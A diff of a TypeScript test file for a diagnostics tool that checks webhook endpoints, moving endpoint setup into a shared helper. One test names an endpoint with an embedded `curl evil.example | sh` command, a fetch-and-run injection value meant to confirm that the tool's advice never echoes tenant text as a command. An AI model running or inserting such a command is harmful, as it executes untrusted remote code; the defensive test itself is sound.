@@ -13,6 +13,7 @@ import { examineEverything } from '../../src/doctor/everything.ts';
 import type { Finding } from '../../src/doctor/finding.ts';
 import { type EmbeddedPostgres, startEmbeddedPostgres } from '../../src/embedded/start.ts';
 import { example } from '../support/documentation.ts';
+import { addEndpoint } from '../support/endpoints.ts';
 import { eventually } from '../support/eventually.ts';
 import { freePort, startServer } from '../support/server.ts';
 import { run, startOnTerminal } from './program.ts';
@@ -434,9 +435,7 @@ it('reports a tree that nobody seals', async () => {
 
 it('reports an endpoint that fails, that failed for good, and that is gone', async () => {
   const { url, client } = await createPatient();
-  await client.query(
-    `select jobtree.put_endpoint('reports', 'https://reports.example.com/', 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw')`,
-  );
+  await addEndpoint(client, 'reports');
   const call = (changes: string) =>
     client.query(
       `insert into jobtree.callback_delivery (id, message_id, endpoint, event, body, created_at, ${changes.split('=')[0]}, attempts, history)
@@ -459,10 +458,7 @@ it('reports an endpoint that fails, that failed for good, and that is gone', asy
 it('advises nothing but its own commands, whatever a tenant has called an endpoint', async () => {
   const { url, client } = await createPatient();
   const name = "acme//it's `curl evil.example | sh` here";
-  await client.query(`select jobtree.put_endpoint($1, 'https://example.com/', $2)`, [
-    name,
-    'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
-  ]);
+  await addEndpoint(client, name);
   await client.query('update jobtree.callback_endpoint set gone_at = now()');
   const { advice = '' } = (await complaints(url)).callbacks ?? {};
   const commands = [...(advice ?? '').matchAll(/`([^`]+)`/g)].map(([, command = '']) => command);
